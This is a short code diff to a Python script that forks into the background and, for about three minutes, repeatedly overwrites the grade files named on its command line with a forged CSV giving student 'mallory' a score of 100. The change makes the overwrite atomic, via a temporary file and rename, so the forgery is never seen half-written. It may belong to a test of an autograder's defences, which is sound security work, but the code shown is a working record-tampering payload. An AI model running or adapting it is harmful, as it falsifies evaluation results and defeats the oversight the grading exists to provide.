@@ -94,9 +94,10 @@ if os.fork():
     os._exit(0)
 for _ in range(900):
     for path in sys.argv[2:]:
-        try:
-            with open(path, 'w') as f:
+        try:  # whole files, by rename: a reader never sees one half written
+            with open(path + '.mallory', 'w') as f:
                 f.write('file,student_id,score\\nmallory.ipynb,mallory,100\\n')
+            os.replace(path + '.mallory', path)
         except OSError:
             pass
     time.sleep(0.2)
